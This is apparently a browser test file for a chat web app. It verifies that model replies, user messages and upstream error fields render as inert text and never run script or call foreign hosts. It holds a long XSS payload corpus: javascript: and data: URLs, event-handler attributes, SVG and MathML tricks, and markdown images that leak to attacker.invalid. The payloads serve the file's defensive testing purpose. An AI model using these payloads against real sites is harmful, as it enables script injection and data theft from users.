"""What models and people write is shown, never run: no script, no foreign request, no violation of the policy."""

from typing import Any

import pytest
from playwright.sync_api import Page, Request, expect

from project.tests.browser.conftest import Complaints, Edge
from project.tests.browser.test_talking import send

pytestmark = pytest.mark.django_db(transaction=True)

ADDRESSES = [
    "javascript:ran()",
    "JaVaScRiPt:ran()",
    "java&#115;cript:ran()",
    "&#x6A;avascript:ran()",
    "java\tscript:ran()",
    " javascript:ran()",
    "\x01javascript:ran()",
    "vbscript:ran()",
    "data:text/html,<script>ran()</script>",
    "data:text/html;base64,PHNjcmlwdD5yYW4oKTwvc2NyaXB0Pg==",
    "blob:http://localhost/x",
    "file:///etc/passwd",
    "//attacker.invalid/x",
    "/accounts/logout/",
    "#thread",
]
ATTRIBUTES = [
    'onload="ran()"',
    'onerror="ran()"',
    "onmouseover=ran()",
    'autofocus onfocus="ran()"',
    'style="background:url(http://attacker.invalid/x)"',
    'srcdoc="<script>ran()</script>"',
    'src="http://attacker.invalid/x"',
    'src=x onerror="ran()"',
    'href="javascript:ran()"',
    'xlink:href="javascript:ran()"',
    'action="javascript:ran()"',
    'formaction="javascript:ran()"',
    'id="send" name="message"',
    'class="composer" data-copy="code"',
]
ELEMENTS = [
    "a", "img", "svg", "math", "iframe", "object", "embed", "video", "audio", "form", "input", "button", "textarea",
    "details", "body", "base", "link", "meta", "style", "script", "template", "marquee", "select",
]  # fmt: skip
WHOLE = [
    "<script>ran()</script>",
    "<ScRiPt>ran()</sCrIpT>",
    "<svg><script>ran()</script></svg>",
    "<svg/onload=ran()>",
    "<svg><animate onbegin=ran() attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:ran()'><text y=9>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=ran()>#x'/></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=ran()>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=ran()>",
    "<noscript><p title='</noscript><img src=x onerror=ran()>'>",
    "<!--><img src=x onerror=ran()>-->",
    "<![CDATA[><img src=x onerror=ran()>]]>",
    "<?xml ?><img src=x onerror=ran()>",
    "<img src=x:x onerror=ran()//",
    "<a href='jav\nascript:ran()'>x</a>",
    "<div style='width:expression(ran())'>x</div>",
    "<meta http-equiv=refresh content='0;url=javascript:ran()'>",
    "<base href='http://attacker.invalid/'>",
    "<link rel=stylesheet href='http://attacker.invalid/x.css'>",
    "<iframe srcdoc='<script>parent.ran()</script>'></iframe>",
    "<object data='javascript:ran()'></object>",
    "<template><script>ran()</script></template>",
    "<p id=__proto__><p id=constructor><form id=page-data>",
    "```html\n<script>ran()</script>\n```",
    '```"><script>ran()</script>\nx\n```',
    "`<img src=x onerror=ran()>`",
    "| <script>ran()</script> |\n|---|\n| <img src=x onerror=ran()> |",
    "> <img src=x onerror=ran()>",
    "# <img src=x onerror=ran()>",
    "- [x] <img src=x onerror=ran()>",
    "[x]: javascript:ran()\n\n[x]",
    '[x](http://example.com "\\" onmouseover=ran() x=\\"")',
    "![x](http://attacker.invalid/leak?secret)",
    "![<img src=x onerror=ran()>](http://attacker.invalid/leak)",
    "[![x](http://attacker.invalid/leak)](javascript:ran())",
    "<http://example.com/\"onmouseover='ran()'>",
    "http://example.com/'onmouseover='ran()",
    "{{constructor.constructor('ran()')()}}",
    "\u202e\u0000\ud800<img src=x onerror=ran()>".encode("utf-16", "surrogatepass").decode("utf-16", "replace"),
]
CORPUS = (
    WHOLE
    + [f"[link]({address})" for address in ADDRESSES]
    + [f"![picture]({address})" for address in ADDRESSES]
    + [f"<{address}>" for address in ADDRESSES]
    + [f'<a href="{address}">x</a>' for address in ADDRESSES]
    + [f"<{name} {attribute}>x</{name}>" for name in ELEMENTS for attribute in ATTRIBUTES]
)
FORBIDDEN = "script, style, iframe, object, embed, img, video, audio, form, link, meta, base, svg:not(.icon), template"


@pytest.fixture(autouse=True)
def opened(page: Page, live_server: Any, signed_in: Any, edge: Edge, complaints: Complaints) -> None:
    page.goto(f"{live_server.url}/")
    page.evaluate("window.runs = 0; window.ran = () => { window.runs += 1; }; null")


def test_nothing_that_a_model_writes_runs(page: Page, edge: Edge) -> None:
    assert len(CORPUS) > 400
    strangers: list[str] = []

    def note(request: Request) -> None:
        if "attacker.invalid" in request.url:
            strangers.append(request.url)

    page.on("request", note)
    send(page, "attack")
    connection = edge.wait_for_typed()
    # One article for each, as one unclosed fence would make text of all that follow.
    for payload in CORPUS:
        connection.turn(f"row {payload}", "pending")
        connection.say(payload)
    connection.say({"text": "<img src=x onerror=ran()>", "thought": True})
    connection.end_turn()
    expected = len(set(CORPUS)) - 3
    answers = page.locator("article[data-role=model]")
    edge.wait_until(lambda: answers.count() >= expected, f"{expected} answers", seconds=20)
    page.evaluate(
        "document.querySelectorAll('.thread a, .thread p').forEach((one) => one.dispatchEvent(new Event('mouseover')))"
    )
    page.wait_for_timeout(300)
    assert page.evaluate("window.runs") == 0
    assert strangers == []
    assert page.locator(".thread").locator(FORBIDDEN).evaluate_all("all => all.map((one) => one.outerHTML)") == []
    handlers = (
        "all => all.flatMap((one) => [...one.attributes].map((a) => a.name)).filter((name) => /^on|^style$/.test(name))"
    )
    assert page.locator(".thread *").evaluate_all(handlers) == []
    links = page.locator(".thread .text a[href]").evaluate_all(
        "all => all.map((one) => [one.href, one.target, one.rel])"
    )
    assert links
    for address, target, relation in links:
        assert address.startswith(("http://", "https://", "mailto:")), address
        assert target == "_blank"
        assert "noopener" in relation
    expect(page.locator("#send")).to_have_count(1)


def test_what_a_person_writes_stays_text(page: Page, edge: Edge) -> None:
    typed = '<img src=x onerror="ran()"> **not bold** [x](javascript:ran())'
    send(page, typed)
    edge.wait_for_typed()
    said = page.locator("article[data-role=user] .text")
    assert said.text_content() == typed
    assert said.locator("*").count() == 0
    title = page.get_by_role("navigation").locator("[aria-current=page]")
    expect(title).to_have_text(typed[:80])
    assert page.evaluate("window.runs") == 0


def test_names_from_upstream_stay_text(page: Page, edge: Edge) -> None:
    evil = '"><img src=x onerror=ran()>'
    send(page, "hi")
    connection = edge.wait_for_typed()
    connection.notice(transport=evil, model=evil, platform=evil, **{"from": evil, "reason": evil, "lost": [evil]})
    tried = {"transport": evil, "platform": evil, "location": evil, "model": evil, "kind": evil, "code": 1}
    connection.notice(error={"kind": evil, "message": evil, "tried": [tried], "retryable": True})
    expect(page.locator("article[data-role=model]")).to_contain_text(evil)
    expect(page.get_by_test_id("transport")).to_have_text(evil)
    assert page.evaluate("window.runs") == 0


@pytest.mark.parametrize(
    "link", ["javascript:ran()", "https://evil.example/", "//evil.example/", "/help/#a/../x", "/help"]
)
def test_help_leads_nowhere_else(page: Page, edge: Edge, link: str) -> None:
    send(page, "hi")
    connection = edge.wait_for_typed()
    connection.notice(error={"kind": "quota", "message": "No answer.", "help": link, "tried": [], "retryable": True})
    expect(page.locator("article[data-role=model]")).to_contain_text("No answer.")
    expect(page.locator("article[data-role=model] a")).to_have_count(0)
